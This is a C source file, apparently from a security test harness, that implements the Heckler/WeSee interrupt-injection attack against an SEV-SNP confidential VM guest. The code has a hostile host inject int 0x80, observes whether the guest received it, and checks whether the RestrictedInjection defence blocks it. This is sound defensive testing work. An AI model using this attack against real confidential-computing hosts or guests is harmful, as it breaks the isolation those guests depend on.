/*
 * host/attacks/scn_heckler_injection.c - heckler-injection (attacks.md, Heckler / WeSee),
 * through the agent app's diagnostics op EVENTS (docs/guest.md): the host injects an interrupt
 * (int 0x80) the guest never raised. Enabling condition: the host may inject any vector.
 * Defence: RestrictedInjection in SEV_FEATURES (only #HV may be injected; VMRUN refuses
 * anything else).
 */
#include "host/attacks/atk_int.h"

#include "base/rd.h"
#include "snpkit/vmsa.h"

#include <string.h>

#define HECKLER_VEC 0x80u

/* Heckler / WeSee: inject int 0x80 while the guest waits on the channel; ask it what it got.
 * snp-patched launches with RestrictedInjection in SEV_FEATURES. */
static snp_err
atk_heckler(struct snp_atk_ctx *c, struct snp_atk_observed *obs)
{
    struct atk_vm vm;
    uint8_t msg[8];
    uint64_t ev = SNP_VMSA_EVENTINJ_VALID | HECKLER_VEC; /* type 0: external interrupt */
    uint64_t features = 0;
    uint32_t count;
    char b[96];
    snp_err err;

    err = atk_start_injectable(c, &vm, SNP_CHAN_OP_EVENTS, &features);
    if (err != SNP_OK) {
        goto out;
    }
    atk_trace(c, SNP_ATK_ACT_HV, "SEV_FEATURES 0x%llx; EVENTINJ 0x%llx (vector 0x%x, interrupt)",
              (unsigned long long)features, (unsigned long long)ev, HECKLER_VEC);
    err = snp_host_inject(c->m, vm.v->vcpu_ids[0], ev);
    if (err != SNP_OK) {
        goto out;
    }
    err = atk_vm_exchange(&vm, msg, atk_msg_shutdown(msg));
    if (err != SNP_OK) {
        goto out;
    }
    if (vm.st.stop == SNP_VMM_STOP_ERROR && vm.st.last_exit == SNP_EXIT_INVALID) {
        atk_evidence(obs, SNP_ATK_BLOCKED_HW,
                     "VMRUN with EVENTINJ vector 0x%x refused (VMEXIT_INVALID): "
                     "RestrictedInjection lets only #HV in; the guest never saw it",
                     HECKLER_VEC);
    } else if (atk_answer_status(&vm, SNP_CHAN_OP_EVENTS) == 0 && vm.last_len >= 10) {
        count = snp_le32(vm.last + 4);
        if (count > 0 && vm.last[8] == HECKLER_VEC) {
            atk_evidence(obs, SNP_ATK_SUCCEEDED,
                         "injected vector 0x%x reached the guest's handler (%u event(s), last "
                         "vector 0x%x type %u)",
                         HECKLER_VEC, count, vm.last[8], vm.last[9]);
        } else {
            atk_evidence(obs, SNP_ATK_BLOCKED_HW,
                         "the guest's handler saw %u event(s): the injection was dropped", count);
        }
    } else {
        atk_evidence(obs, SNP_ATK_NOT_RUN, "no EVENTS answer; guest %s",
                     atk_stop_text(&vm, b, sizeof(b)));
    }
out:
    atk_vm_free(&vm);
    return err;
}

const struct snp_atk_scenario atk_scn_heckler_injection = {
    .id = "heckler-injection",
    .title = "inject int 0x80 into the guest",
    .ref = "Heckler, WeSee",
    .cap = "H4",
    .condition = "the host may inject any vector (EVENTINJ)",
    .defence = "RestrictedInjection in SEV_FEATURES: VMRUN refuses all but #HV",
    .profiles = ATK_P_ALL,
    .expect = {SNP_ATK_SUCCEEDED, SNP_ATK_SUCCEEDED, SNP_ATK_BLOCKED_HW},
    .run = atk_heckler,
};
